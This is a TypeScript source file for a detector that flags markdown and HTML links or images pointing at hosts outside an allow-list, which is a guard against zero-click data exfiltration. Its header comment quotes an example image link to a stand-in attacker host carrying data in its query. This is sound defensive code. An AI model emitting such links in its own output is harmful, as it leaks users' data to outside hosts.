// EXFIL_LINK: markdown and HTML that makes a client fetch or offer a URL on a host outside an
// allow-list — the zero-click exfiltration channel (EchoLeak-style `![](https://attacker/?q=<data>)`).
// Recognised forms: inline images and links `![t](url "title")` / `[t](url)`, reference-style
// `[t][id]`, `[t][]`, `[id]` with `[id]: url` definitions (the definition line is reported too),
// autolinks `<https://…>`, HTML `<img src>`, `<a href>…</a>` and other fetching tags (iframe, script,
// source, video, audio, link, object, embed, form). Optionally bare URLs. A finding spans the whole
// markup, so redaction with style `remove` strips it. Scores: images and fetching tags 0.9, links
// 0.6; +0.05 / +0.2 when the URL carries data (query string, fragment, or a long path segment).
import { compile, matchAll, matchAt, type Match } from '../../core/regex.ts';
import type { DetectionContext, Detector, Finding } from '../../core/types.ts';

export interface ExfilConfig {
  readonly id: string;
  /**
   * Host globs that may appear: "example.com" matches that host exactly, "*.example.com" any
   * subdomain (not the apex), "*" everything. Matching is case-insensitive, ports ignored.
   */
  readonly allowedHosts?: readonly string[];
  /** Only report images and fetching tags (zero-click), not clickable links. */
  readonly imagesOnly?: boolean;
  /** Also report bare http(s) URLs in text (default false). */
  readonly bareUrls?: boolean;
}

/**
 * Longest link a stream redacts whole (the detector's hold-back). URLs are unbounded in the patterns:
 * until the twenty-fourth round they stopped at 1,000 characters, so an image whose URL carried more
 * data than that (the zero-click channel at its most useful to an attacker) was not found at all.
 */
const LINK_HOLD = 4096;
const TITLE = `(?:[ \\t]{1,8}(?:"[^"\\n]{0,200}"|'[^'\\n]{0,200}'|\\([^)\\n]{0,200}\\)))?`;
/** Markdown inline link or image (reference pattern of inlineMatches, which finds the same matches). */
// The destination is `<…>` (spaces allowed, as CommonMark allows them there: `![x](<https://h/a b>)`
// renders) or a run without whitespace, parentheses or angle brackets; groups: '!' or '', <url>, url.
export const INLINE_PATTERN = `(!?)\\[[^\\]\\n]{0,300}\\]\\([ \\t]{0,8}(?:<([^<>\\n]+)>|([^\\s()<>]+))${TITLE}[ \\t]{0,8}\\)`;
const INLINE = compile('exfil/inline', INLINE_PATTERN);
const INLINE_AT = compile('exfil/inline-at', INLINE_PATTERN, 'y');
const REF_DEF = compile('exfil/refdef', `(?m)^[ ]{0,3}\\[([^\\]\\n]{1,200})\\]:[ \\t]{0,8}<?([^\\s<>]+)>?${TITLE}[ \\t]*$`);
const REF_USE = compile('exfil/refuse', `(!?)\\[([^\\]\\n]{0,300})\\](?:\\[([^\\]\\n]{0,200})\\])?`);
const AUTOLINK = compile('exfil/autolink', `<((?:https?|ftp)://[^\\s<>]+)>`, 'i');
const HTML_TAGS = 'img|a|iframe|script|source|video|audio|link|object|embed|form|input|track|image';
const A_CLOSE = compile('exfil/aclose', '^[^<]{0,1000}</a\\s*>', 'i');
const ATTR = compile('exfil/attr', `\\b(src|href|action|data|poster|srcset|background|formaction)\\s*=\\s*(?:"([^"]*)"|'([^']*)'|([^\\s>"']+))`, 'i');
/**
 * The reference patterns of the two scanners below (kept for the equivalence tests): the tag or URL
 * start is found by RE2 and the tail is measured with string scans (the scanners date from when the
 * tails were bounded by counted repetitions, which kept RE2 out of its DFA).
 */
export const HTML_TAG_PATTERN = `<(${HTML_TAGS})\\b[^>]*>`;
export const BARE_URL_PATTERN = `\\bhttps?://[^\\s<>"'()\\[\\]]+`;
const HTML_OPEN = compile('exfil/html-open', `<(${HTML_TAGS})\\b`, 'i');
const BARE_START = compile('exfil/bare-start', '\\bhttps?://', 'i');
// Ill-formed UTF-16 (lone surrogates) goes through the reference programs: what RE2 sees of such a
// string is an artefact of the UTF-8 conversion that the scans below need not imitate.
const HTML_TAG = compile('exfil/html', HTML_TAG_PATTERN, 'i');
const BARE = compile('exfil/bare', BARE_URL_PATTERN, 'i');

/** Code points in text[a, b) of a well-formed string. */
function codePoints(text: string, a: number, b: number): number {
  let n = 0;
  for (let i = a; i < b; i++) {
    const c = text.charCodeAt(i);
    if (c >= 0xd800 && c <= 0xdbff && i + 1 < b) {
      const d = text.charCodeAt(i + 1);
      if (d >= 0xdc00 && d <= 0xdfff) i++;
    }
    n++;
  }
  return n;
}

/** All matches of HTML_TAG_PATTERN (case-insensitive), leftmost first, non-overlapping; groups[0] is the tag. */
export function htmlTagMatches(text: string): Match[] {
  if (!text.isWellFormed()) return matchAll(HTML_TAG, text);
  const out: Match[] = [];
  let lastEnd = 0;
  let gt = -2; // next '>' at or after the current tag name (-1: none left)
  for (const m of matchAll(HTML_OPEN, text)) {
    if (m.start < lastEnd) continue; // inside the previous tag ([^>] also spans '<')
    if (gt !== -1 && gt < m.end) gt = text.indexOf('>', m.end);
    if (gt === -1) break;
    out.push({ start: m.start, end: gt + 1, groups: m.groups });
    lastEnd = gt + 1;
  }
  return out;
}

/**
 * Where an inline link can close: a "](" whose tail passes a necessary condition of INLINE_PATTERN's
 * tail (blanks, then '<' and a character a `<…>` destination may hold, or a URL character). No
 * counted repetition, so RE2 keeps it in its DFA; a match holds one "](" and nothing after the
 * character that follows it, so every such "](" is reported.
 */
const INLINE_CLOSE = compile('exfil/inline-close', '\\]\\([ \\t]{0,8}(?:<[^<>\\n]|[^\\s()<>])');

/**
 * All matches of INLINE_PATTERN, leftmost first, non-overlapping; groups are ['!' or '', url]. The
 * bracket text of a match cannot hold ']' or a newline, so a match is fixed by its "](" (found by
 * INLINE_CLOSE, in order) and starts at a '[' after the last ']' or newline before it, at most 300
 * code points back; the leftmost such '[' is tried with one anchored RE2 match (if it fails, every
 * '[' for that "](" fails: what follows the "](" is the same). The unanchored program is many times
 * slower (it was measured with the URL bounded by a counted repetition).
 */
export function inlineMatches(text: string): Match[] {
  if (!text.isWellFormed()) return matchAll(INLINE, text);
  const out: Match[] = [];
  let lastEnd = 0;
  for (const c of matchAll(INLINE_CLOSE, text)) {
    const close = c.start;
    if (close < lastEnd) continue;
    // The bracket text: back to the last ']' or newline, no further than 600 units (300 code points).
    let from = close;
    const floor = Math.max(lastEnd, close - 601);
    while (from > floor) {
      const ch = text.charCodeAt(from - 1);
      if (ch === 0x5d || ch === 0x0a) break;
      from--;
    }
    let p = text.indexOf('[', from);
    while (p >= 0 && p < close) {
      const inner = close - p - 1;
      if (inner <= 300 || (inner <= 600 && codePoints(text, p + 1, close) <= 300)) break;
      p = text.indexOf('[', p + 1);
    }
    if (p < 0 || p >= close) continue;
    const start = p > lastEnd && text.charCodeAt(p - 1) === 0x21 ? p - 1 : p;
    const m = matchAt(INLINE_AT, text, start, out.length >= 2);
    if (m === null) continue;
    out.push(m);
    lastEnd = m.end;
  }
  return out;
}

/** RE2's \s plus the other characters a bare URL stops at. */
function bareStop(c: number): boolean {
  return c === 32 || c === 9 || c === 10 || c === 12 || c === 13 || c === 60 || c === 62 || c === 34 || c === 39 || c === 40 || c === 41 || c === 91 || c === 93;
}

/** All matches of BARE_URL_PATTERN (case-insensitive), leftmost first, non-overlapping. */
export function bareUrlMatches(text: string): Match[] {
  if (!text.isWellFormed()) return matchAll(BARE, text);
  const out: Match[] = [];
  let lastEnd = 0;
  for (const m of matchAll(BARE_START, text)) {
    if (m.start < lastEnd) continue;
    let i = m.end;
    let n = 0;
    while (i < text.length) {
      const c = text.charCodeAt(i);
      if (bareStop(c)) break;
      if (c >= 0xd800 && c <= 0xdbff && i + 1 < text.length) {
        const d = text.charCodeAt(i + 1);
        i += d >= 0xdc00 && d <= 0xdfff ? 2 : 1;
      } else i++;
      n++;
    }
    if (n === 0) continue;
    out.push({ start: m.start, end: i, groups: [] });
    lastEnd = i;
  }
  return out;
}

const OPEN_ATTR = compile('exfil/open-attr', '\\b(?:src|href|action|data|poster|srcset|background|formaction)\\s*=\\s*', 'i');

/**
 * A markdown link or image, or a fetching HTML tag, still open at the end of `text` and longer than
 * LINK_HOLD, whose URL (as far as it goes) points at a host `verdict` does not allow: where it starts,
 * or null. In a stream that is a link longer than the hold-back: the engine must release text more
 * than LINK_HOLD behind the input, and releasing the link's start would let the client render it once
 * the rest arrived. The scan reports [start, end - LINK_HOLD), which the engine can decide, so the
 * opener is removed and what follows is released as plain URL characters (streams stay within their
 * hold-back). In a whole text it is broken markup at its very end, treated the same way.
 */
function openLinkAtEnd(text: string, verdict: (url: string) => { data: boolean } | null): { start: number; image: boolean; data: boolean; what: string } | null {
  const L = text.length;
  // Markdown: the last "](" whose URL runs to the end.
  const close = text.lastIndexOf('](');
  if (close >= 0 && L - close > LINK_HOLD) {
    let k = close + 2;
    while (k < L && k - close - 2 < 8 && (text.charCodeAt(k) === 32 || text.charCodeAt(k) === 9)) k++;
    const angle = text[k] === '<';
    if (angle) k++;
    const urlStart = k;
    // INLINE_PATTERN's destination characters: in `<…>` anything but '<', '>' and a line break;
    // otherwise anything but whitespace, '(', ')', '<' and '>' (a quote too).
    while (k < L) {
      const c = text.charCodeAt(k);
      if (angle ? c === 60 || c === 62 || c === 10 : c === 32 || (c >= 9 && c <= 13) || c === 40 || c === 41 || c === 60 || c === 62) break;
      k++;
    }
    if (k === L && L - urlStart > 0) {
      let from = close;
      while (from > Math.max(0, close - 601) && text.charCodeAt(from - 1) !== 0x5d && text.charCodeAt(from - 1) !== 0x0a) from--;
      const p = text.indexOf('[', from);
      const v = p >= 0 && p < close ? verdict(text.slice(urlStart)) : null;
      if (v !== null) {
        const image = p > 0 && text.charCodeAt(p - 1) === 0x21;
        return { start: image ? p - 1 : p, image, data: v.data, what: image ? 'markdown image still open' : 'markdown link still open' };
      }
    }
  }
  // HTML: the first fetching tag opener after the last '>' (a quoted value may hold '<').
  const gt = text.lastIndexOf('>');
  if (L - gt - 1 > LINK_HOLD) {
    const open = matchAll(HTML_OPEN, text.slice(gt + 1))[0];
    const lt = open === undefined ? -1 : gt + 1 + open.start;
    if (open !== undefined && L - lt > LINK_HOLD) {
      const tag = text.slice(lt, L);
      let worst: { data: boolean } | null = null;
      for (const a of matchAll(OPEN_ATTR, tag)) {
        const q = tag[a.end];
        const from = q === '"' || q === "'" ? a.end + 1 : a.end;
        let to = from;
        while (to < tag.length && (q === '"' || q === "'" ? tag[to] !== q : !bareStop(tag.charCodeAt(to)))) to++;
        const v = verdict(tag.slice(from, to));
        if (v !== null && (worst === null || v.data)) worst = v;
      }
      if (worst !== null) {
        const name = (open.groups[0] ?? '').toLowerCase();
        return { start: lt, image: name !== 'a', data: worst.data, what: `html ${name} still open` };
      }
    }
  }
  return null;
}

interface HostMatcher {
  allowed(host: string): boolean;
}

function hostMatcher(globs: readonly string[]): HostMatcher {
  const exact = new Set<string>();
  const suffixes: string[] = [];
  let any = false;
  for (const g0 of globs) {
    const g = g0.trim().toLowerCase();
    if (g === '*') any = true;
    else if (g.startsWith('*.')) suffixes.push(g.slice(1));
    else if (g.length > 0) exact.add(g);
  }
  return {
    allowed(host: string): boolean {
      if (any) return true;
      const h = host.toLowerCase();
      const hh = h.endsWith('.') ? h.slice(0, -1) : h; // fully qualified form "example.com."
      return exact.has(hh) || suffixes.some((s) => hh.endsWith(s));
    },
  };
}

/** Host of an absolute or protocol-relative URL with a fetchable scheme, or null (relative, data:, mailto: …). */
export function externalHost(raw: string): { host: string; data: boolean } | null {
  let s = raw.trim();
  if (s.startsWith('<') && s.endsWith('>')) s = s.slice(1, -1);
  if (s.startsWith('//')) s = 'https:' + s;
  let u: URL;
  try {
    u = new URL(s);
  } catch {
    return null;
  }
  if (u.protocol !== 'http:' && u.protocol !== 'https:' && u.protocol !== 'ftp:' && u.protocol !== 'ws:' && u.protocol !== 'wss:') return null;
  if (u.hostname.length === 0) return null;
  const longSegment = u.pathname.split('/').some((seg) => seg.length >= 32);
  return { host: u.hostname, data: u.search.length > 1 || u.hash.length > 1 || longSegment || u.username.length > 0 };
}

export function createExfilLinksDetector(cfg: ExfilConfig): Detector {
  const hosts = hostMatcher(cfg.allowedHosts ?? []);
  const imagesOnly = cfg.imagesOnly ?? false;
  const verdict = (url: string): { data: boolean } | null => {
    const h = externalHost(url);
    if (h === null || hosts.allowed(h.host)) return null;
    return { data: h.data };
  };
  return {
    id: cfg.id,
    maxMatchLength: LINK_HOLD,
    spanwise: true,
    scan(text: string, _ctx: DetectionContext): Finding[] {
      if (text.length === 0) return [];
      const out: Finding[] = [];
      // Coverage bitmap: a piece of markup already accounted for is not re-read by a later pass.
      // Allocated on first use (most texts hold no markup at all).
      let covered: Uint8Array | null = null;
      const overlaps = (s: number, e: number): boolean => {
        const c = covered;
        if (c === null) return false;
        for (let i = s; i < e; i++) if (c[i] === 1) return true;
        return false;
      };
      const taken = {
        push: ([s, e]: [number, number]): void => {
          covered ??= new Uint8Array(text.length);
          covered.fill(1, s, e);
        },
      };
      const push = (start: number, end: number, image: boolean, data: boolean, what: string): void => {
        if (imagesOnly && !image) return;
        const base = image ? 0.9 : 0.6;
        const score = Math.round(Math.min(1, base + (data ? (image ? 0.05 : 0.2) : 0)) * 100) / 100;
        out.push({ detector: cfg.id, type: 'EXFIL_LINK', start, end, score, explanation: `${what}${data ? ', url carries data' : ''}, host not allowed` });
        taken.push([start, end]);
      };
      // Every markdown form has a ']'; an inline link or image has "](" (INLINE cannot match without it).
      if (text.includes(']')) {
        for (const m of text.includes('](') ? inlineMatches(text) : []) {
          const v = verdict(m.groups[1] ?? m.groups[2] ?? '');
          if (v !== null) push(m.start, m.end, m.groups[0] === '!', v.data, m.groups[0] === '!' ? 'markdown image' : 'markdown link');
          else taken.push([m.start, m.end]); // allowed: its text must not be re-read as a reference
        }
        // Reference-style: collect definitions, then usages whose label points at a bad definition.
        const bad = new Map<string, { data: boolean }>();
        const defs: { start: number; end: number; label: string; data: boolean }[] = [];
        if (text.includes(']:')) {
          for (const m of matchAll(REF_DEF, text)) {
            const label = (m.groups[0] ?? '').trim().toLowerCase();
            const v = verdict(m.groups[1] ?? '');
            if (v === null) continue;
            bad.set(label, v);
            defs.push({ start: m.start, end: m.end, label, data: v.data });
          }
        }
        if (bad.size > 0) {
          const imageLabels = new Set<string>();
          for (const m of matchAll(REF_USE, text)) {
            if (overlaps(m.start, m.end) || defs.some((d) => m.start >= d.start && m.start < d.end)) continue;
            if (text[m.end] === ':' || text[m.end] === '(') continue;
            const explicit = m.groups[2];
            const label = (explicit !== undefined && explicit.length > 0 ? explicit : m.groups[1] ?? '').trim().toLowerCase();
            const v = bad.get(label);
            if (v === undefined) continue;
            const image = m.groups[0] === '!';
            if (image) imageLabels.add(label);
            push(m.start, m.end, image, v.data, image ? 'markdown reference image' : 'markdown reference link');
          }
          for (const d of defs) push(d.start, d.end, imageLabels.has(d.label), d.data, 'markdown reference definition');
        }
      }
      if (text.includes('<')) {
        for (const m of matchAll(AUTOLINK, text)) {
          if (overlaps(m.start, m.end)) continue;
          const v = verdict(m.groups[0] ?? '');
          if (v !== null) push(m.start, m.end, false, v.data, 'autolink');
        }
        for (const m of htmlTagMatches(text)) {
          if (overlaps(m.start, m.end)) continue;
          const tag = (m.groups[0] ?? '').toLowerCase();
          const tagText = text.slice(m.start, m.end);
          let worst: { data: boolean } | null = null;
          for (const a of matchAll(ATTR, tagText)) {
            const val = a.groups[1] ?? a.groups[2] ?? a.groups[3] ?? '';
            const urls = (a.groups[0] ?? '').toLowerCase() === 'srcset' ? val.split(',').map((x) => x.trim().split(' ')[0]) : [val];
            for (const u of urls) {
              const v = verdict(u);
              if (v !== null && (worst === null || v.data)) worst = v;
            }
          }
          if (worst === null) continue;
          let end = m.end;
          if (tag === 'a') {
            const close = matchAll(A_CLOSE, text.slice(m.end, m.end + 1100));
            if (close.length > 0) end = m.end + close[0].end;
          }
          push(m.start, end, tag !== 'a', worst.data, tag === 'a' ? 'html link' : `html ${tag}`);
        }
      }
      if (cfg.bareUrls) {
        for (const m of bareUrlMatches(text)) {
          if (overlaps(m.start, m.end)) continue;
          let end = m.end;
          while (end > m.start && '.,;:!?'.includes(text[end - 1])) end--; // sentence punctuation
          const v = verdict(text.slice(m.start, end));
          if (v !== null && !imagesOnly) {
            out.push({ detector: cfg.id, type: 'EXFIL_LINK', start: m.start, end, score: v.data ? 0.5 : 0.3, explanation: `bare url${v.data ? ', url carries data' : ''}, host not allowed` });
            taken.push([m.start, end]);
          }
        }
      }
      const open = text.length > LINK_HOLD ? openLinkAtEnd(text, verdict) : null;
      if (open !== null && text.length - LINK_HOLD > open.start && !overlaps(open.start, open.start + 1)) {
        push(open.start, text.length - LINK_HOLD, open.image, open.data, open.what);
      }
      out.sort((a, b) => a.start - b.start || b.end - a.end);
      return out;
    },
  };
}
